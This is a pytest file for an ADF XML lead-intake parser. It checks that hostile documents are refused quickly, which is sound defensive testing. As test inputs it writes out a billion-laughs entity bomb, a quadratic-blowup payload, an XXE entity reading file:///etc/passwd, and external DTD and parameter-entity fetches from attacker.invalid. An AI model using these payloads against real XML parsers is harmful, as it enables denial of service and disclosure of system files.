"""Hostile documents are refused with AdfError, quickly and without expanding anything.

Timings are not asserted (they depend on the machine); each of these finishes in milliseconds,
the slowest pathological ones in well under a second (see the parser's report)."""

from __future__ import annotations

import html

import pytest

from intake.adf import AdfError, _parse_xml, extract_adf_from_email, parse_adf, parse_document_or_email
from intake.adf.repair import MAX_DEPTH

PROSPECT = "<prospect><customer><contact><name part='full'>{}</name></contact></customer></prospect>"


def billion_laughs() -> str:
    entities = ['<!ENTITY lol0 "lol">'] + [f'<!ENTITY lol{i} "{f"&lol{i - 1};" * 10}">' for i in range(1, 10)]
    return f'<?xml version="1.0"?>\n<!DOCTYPE adf [\n{"".join(entities)}\n]>\n<adf>{PROSPECT.format("&lol9;")}</adf>'


def test_billion_laughs_is_refused() -> None:
    with pytest.raises(AdfError, match=r"declares entities"):
        parse_adf(billion_laughs())


def test_billion_laughs_escaped_in_an_html_body_is_refused() -> None:
    body = f"<html><body><p>{html.escape(billion_laughs())}</p></body></html>"
    with pytest.raises(AdfError, match=r"declares entities"):
        parse_adf(body)


def test_quadratic_blowup_is_refused() -> None:
    big = "x" * 100_000
    document = f'<!DOCTYPE adf [<!ENTITY a "{big}">]><adf>{PROSPECT.format("&a;" * 15_000)}</adf>'
    with pytest.raises(AdfError, match=r"declares entities"):
        parse_adf(document)


def test_external_entity_reading_a_local_file_is_refused() -> None:
    document = f'<?xml version="1.0"?><!DOCTYPE adf [<!ENTITY xxe SYSTEM "file:///etc/passwd">]><adf>{PROSPECT.format("&xxe;")}</adf>'
    with pytest.raises(AdfError, match=r"declares entities") as refused:
        parse_adf(document)
    assert "root:" not in str(refused.value)


def test_external_dtd_defining_a_used_entity_is_refused_and_never_fetched() -> None:
    document = f'<!DOCTYPE adf SYSTEM "http://attacker.invalid/adf.dtd"><adf>{PROSPECT.format("&secret;")}</adf>'
    with pytest.raises(AdfError, match=r"&secret;, an entity only its DTD could define"):
        parse_adf(document)


def test_external_parameter_entity_is_refused() -> None:
    document = (
        '<!DOCTYPE adf [<!ENTITY % remote SYSTEM "http://attacker.invalid/x.dtd"> %remote;]><adf><prospect/></adf>'
    )
    with pytest.raises(AdfError, match=r"declares entities"):
        parse_adf(document)


def test_an_entity_declaration_outside_a_doctype_is_refused() -> None:
    with pytest.raises(AdfError, match=r"declares entities"):
        parse_adf(f'<adf><!ENTITY x "y">{PROSPECT.format("&x;")}</adf>')


def test_a_hundred_thousand_nested_elements_are_refused() -> None:
    document = "<adf><prospect>" + "<a>" * 100_000 + "</a>" * 100_000 + "</prospect></adf>"
    with pytest.raises(AdfError, match=r"refused"):
        parse_adf(document)


def test_nesting_deeper_than_the_limit_is_refused_before_parsing() -> None:
    depth = MAX_DEPTH + 1
    document = "<adf><prospect>" + "<a>" * depth + "</prospect></adf>"  # never closed: the scan refuses first
    with pytest.raises(AdfError, match=rf"nests elements more than {MAX_DEPTH} deep"):
        parse_adf(document)


def test_a_document_over_the_size_limit_is_refused() -> None:
    document = PROSPECT.format("x" * int(3.1 * 1024 * 1024))
    with pytest.raises(AdfError, match=r"^document is 3\.1 MiB, over the 2 MiB limit$"):
        parse_adf(document.encode())
    with pytest.raises(AdfError, match=r"^document is 3\.1 MiB, over the 2 MiB limit$"):
        parse_adf(document)


def test_the_size_limit_can_be_lowered() -> None:
    with pytest.raises(AdfError, match=r"over the 1 KiB limit"):
        parse_adf(PROSPECT.format("x" * 2000), max_bytes=1024)


def test_an_email_over_its_size_limit_is_refused() -> None:
    with pytest.raises(AdfError, match=r"^email is 2\.1 KiB, over the 1 KiB limit$"):
        extract_adf_from_email(b"Subject: x\n\n" + b"x" * 2100, max_email_bytes=1024)


@pytest.mark.parametrize(
    ("document", "message"),
    [
        ("<adf><prospect>" + "<" * 1_900_000 + "</prospect></adf>", "tags"),
        ("<adf><prospect>" + "<x/>" * 400_000 + "</prospect></adf>", "tags"),
        ("<adf><prospect><id " + "a " * 900_000 + ">1</id></prospect></adf>", "attributes"),
        ("<adf><prospect><id " + '="' * 900_000 + ">1</id></prospect></adf>", "attributes"),
        (
            "<adf><prospect><customer><comments>" + "&#65;" * 380_000 + "</comments></customer></prospect></adf>",
            "refer",
        ),
        ("<adf><prospect>" + "<!--" * 400_000 + "</prospect></adf>", "tags"),
        ("<adf><prospect>" + "<![CDATA[" * 150_000 + "</prospect></adf>", "tags"),
        ("&lt;adf&gt;&lt;prospect&gt;" + "&lt;" * 400_000, "references"),
    ],
    ids=[
        "stray-less-than",
        "many-elements",
        "many-attributes",
        "junk-in-a-tag",
        "many-refs",
        "open-comments",
        "open-cdata",
        "escaped-html",
    ],
)
def test_documents_that_would_make_the_scan_slow_are_refused(document: str, message: str) -> None:
    with pytest.raises(AdfError, match=message):
        parse_adf(document)


def test_a_huge_attribute_or_bare_ampersands_are_just_data() -> None:
    (lead,) = parse_adf(f'<adf><prospect><id source="{"x" * 1_900_000}">1</id></prospect></adf>')
    assert lead.ids[0].value == "1"
    (lead,) = parse_adf(
        "<adf><prospect><customer><comments>" + "&" * 1_900_000 + "</comments></customer></prospect></adf>"
    )
    assert lead.comments == "&" * 1_900_000


def test_the_xml_parser_itself_refuses_a_dtd_the_repair_step_let_through() -> None:
    # Defence in depth: repair() never emits a DOCTYPE, but defusedxml would refuse one anyway.
    with pytest.raises(AdfError, match=r"refused for safety"):
        _parse_xml('<!DOCTYPE adf [<!ENTITY a "b">]><adf>&a;</adf>')


def test_hostile_email_attachments_are_refused_too() -> None:
    email = (
        b"From: x@example.com\r\nTo: y@example.com\r\nSubject: lead\r\nContent-Type: text/xml\r\n\r\n"
        + billion_laughs().encode()
    )
    with pytest.raises(AdfError, match=r"declares entities"):
        parse_document_or_email(email)


LONG = 500_000


@pytest.mark.parametrize(
    "document",
    [
        f"<adf><prospect><a{' ' * LONG}x></a></prospect></adf>",
        f"<adf><prospect><id source{' ' * LONG}x>1</id></prospect></adf>",
        f"<adf><prospect><customer><comments><![CDATA[a{' ' * LONG}b<br>]]></comments></customer></prospect></adf>",
        f"<adf><prospect><customer><contact><email>{'a' * LONG}@-</email></contact></customer></prospect></adf>",
        f"<adf><prospect><vehicle interest='sell'/><customer><comments>Make: a{' ' * LONG}b</comments></customer></prospect></adf>",
        f"<adf><prospect><vehicle><model>a{' ' * LONG}b https://x.example</model></vehicle></prospect></adf>",
        f"<adf><prospect><customer><contact><name>{'a ' * LONG}</name></contact></customer></prospect></adf>",
        f"<adf><prospect><vehicle><price>{'1.' * LONG}</price><odometer>{'1 000' * 100_000}</odometer></vehicle></prospect></adf>",
        f"<adf><prospect><requestdate>2026-01-01T{'1' * LONG}</requestdate></prospect></adf>",
    ],
    ids=["tag", "attribute", "comment-br", "email", "trade-comment", "model-url", "name", "price-odometer", "date"],
)
def test_long_runs_in_any_field_take_linear_time(document: str) -> None:
    # A quadratic pattern would take minutes here instead of milliseconds.
    (lead,) = parse_adf(document)
    assert lead.status == "new"


def test_a_huge_numeric_reference_in_an_html_body_is_dropped() -> None:
    body = f"&lt;adf&gt;&lt;prospect&gt;&lt;customer&gt;&lt;comments&gt;a&#{'1' * 5000};b&lt;/comments&gt;&lt;/customer&gt;&lt;/prospect&gt;&lt;/adf&gt;"
    assert parse_adf(body)[0].comments == "ab"


def test_a_declared_encoding_that_is_not_a_text_encoding_is_ignored() -> None:
    document = '<?xml version="1.0" encoding="base64"?><adf><prospect><customer><comments>caf\xe9</comments></customer></prospect></adf>'
    assert parse_adf(document.encode("latin-1"))[0].comments == "café"
